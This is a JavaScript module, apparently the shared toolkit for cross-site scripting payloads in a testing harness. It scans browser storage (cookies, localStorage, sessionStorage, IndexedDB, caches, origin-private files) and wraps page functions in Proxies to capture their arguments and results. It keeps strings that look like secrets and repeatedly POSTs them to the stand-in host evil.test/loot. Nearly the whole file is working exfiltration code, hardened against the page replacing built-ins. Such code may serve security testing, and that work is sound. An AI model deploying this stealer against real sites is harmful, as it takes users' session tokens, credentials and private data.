// What every payload has at hand: `steal(where, ...values)`, which sends to the attacker's host whatever is readable in the
// values, `walk(value)`, which finds the strings in an object, and `target`, what anybody knows of the application.
// It holds on to the functions it needs, since a payload may be about to replace them.

const { fetch: send, setTimeout: later, setInterval: every } = window;
const { apply, ownKeys, getOwnPropertyDescriptor, getPrototypeOf } = Reflect;
const own = {
  exec: RegExp.prototype.exec,
  add: Set.prototype.add,
  has: Set.prototype.has,
  push: Array.prototype.push,
  join: Array.prototype.join,
  decode: TextDecoder.prototype.decode,
  slice: String.prototype.slice,
};
const latin1 = new TextDecoder("latin1");
const secretive = /[\w.~-]{20,}/;

let busy = false;
const seen = new Set();
let bag = [];

/** Runs what the payload's own hooks must not hear. */
const quietly = (act) => {
  if (busy) return undefined;
  busy = true;
  try {
    return act();
  } finally {
    busy = false;
  }
};

const sending = [];
const flush = () =>
  quietly(() => {
    if (bag.length === 0) return;
    const body = apply(own.join, bag, ["\n"]);
    bag = [];
    const post = (keepalive) => send(`https://evil.test/loot/${payload}`, { __proto__: null, method: "POST", mode: "no-cors", body, keepalive });
    // What outlives the page is bounded.
    apply(own.push, sending, [post(body.length < 60_000).catch(() => post(false)).catch(() => {})]);
  });
every(flush, 20);
addEventListener("pagehide", flush);

function keep(text) {
  if (text.length < 20 || apply(own.has, seen, [text]) || apply(own.exec, secretive, [text]) === null) return;
  apply(own.add, seen, [text]);
  apply(own.push, bag, [apply(own.slice, text, [0, 50_000])]);
}

/** Keeps every string that can be reached from a value, through own members, prototypes and the browser's own objects. */
function walk(root, limit = 3_000) {
  quietly(() => {
    const known = new Set();
    const queue = [root];
    for (let index = 0; index < queue.length && index < limit; index += 1) {
      const value = queue[index];
      if (typeof value === "string") keep(value);
      if ((typeof value !== "object" && typeof value !== "function") || value === null || apply(own.has, known, [value])) continue;
      apply(own.add, known, [value]);
      for (const next of insideOf(value)) apply(own.push, queue, [next]);
    }
  });
}

function* insideOf(value) {
  try {
    if (ArrayBuffer.isView(value) || value instanceof ArrayBuffer) yield apply(own.decode, latin1, [value]);
    else if (value instanceof Request || value instanceof Response) {
      yield value.url;
      yield* [...value.headers].flat();
      if (!value.bodyUsed && value.body) void value.clone().text().then((text) => keep(text), () => {});
    } else if (value instanceof Headers || value instanceof FormData || value instanceof Map || value instanceof URLSearchParams) yield* [...value].flat();
    else if (value instanceof Set) yield* [...value];
    else if (value instanceof URL) yield value.href;
    else if (typeof value === "function") yield Function.prototype.toString.call(value);
  } catch {
    // Not to be read.
  }
  let keys = [];
  try {
    keys = ownKeys(value);
    yield getPrototypeOf(value);
  } catch {
    // A Proxy that refuses.
  }
  for (const key of keys) {
    try {
      const found = getOwnPropertyDescriptor(value, key);
      yield "value" in found ? found.value : apply(found.get, value, []);
    } catch {
      // A getter that throws.
    }
  }
}

const steal = (where, ...values) => walk(values);

/** So much of what passes through a function is looked at: they are called often. */
let depth = 300;

/** Replaces a function by one that tells of its arguments, its `this` and its result, and does the same. */
function tap(holder, name, { receiver = false } = {}) {
  const original = holder?.[name];
  if (typeof original !== "function") return;
  const tapped = new Proxy(original, {
    apply(called, self, given) {
      walk([given, receiver ? self : undefined], depth);
      const result = apply(called, self, given);
      tell(result);
      return result;
    },
    construct(called, given, target) {
      walk(given, depth);
      const result = Reflect.construct(called, given, target);
      walk(result, depth);
      return result;
    },
  });
  try {
    Object.defineProperty(holder, name, { value: tapped, writable: true, configurable: true });
  } catch {
    // Frozen.
  }
}

const then = Promise.prototype.then;
function tell(result) {
  if (result instanceof Promise) apply(then, result, [(value) => walk(value, depth), () => {}]);
  else walk(result, depth);
}

/** Until the harness has seen enough; and not for ever on a page that it does not look at. */
let finished = false;
async function* rounds(pause) {
  for (let round = 0; round < 3 || (!finished && round * pause < 20_000); round += 1) {
    yield round;
    await wait(pause);
  }
}
/** What has to be in place before it is worth while to wait for what the page does. */
let prepared = Promise.resolve();

const wait = (milliseconds) => new Promise((resolve) => later(resolve, milliseconds));

/** Everything that this page can read of what is stored. */
async function stored(scope = window) {
  const settled = (request) => new Promise((resolve) => {
    request.onsuccess = () => resolve(request.result);
    request.onerror = request.onblocked = () => resolve(undefined);
  });
  const found = [{ ...scope.localStorage }, { ...scope.sessionStorage }, scope.document.cookie, scope.name, scope.history.state, await scope.cookieStore?.getAll()];
  for (const { name } of await scope.indexedDB.databases()) {
    const database = await settled(scope.indexedDB.open(name));
    if (!database) continue;
    for (const store of database.objectStoreNames) {
      const objects = database.transaction(store).objectStore(store);
      found.push(await settled(objects.getAllKeys()), await settled(objects.getAll()));
    }
    database.close();
  }
  for (const name of await scope.caches.keys()) {
    const cache = await scope.caches.open(name);
    for (const request of await cache.keys()) found.push(request.url, await (await cache.match(request)).text());
  }
  for await (const [name, handle] of (await scope.navigator.storage.getDirectory()).entries()) {
    found.push(name, handle.kind === "file" && (await (await handle.getFile()).text()));
  }
  return found;
}
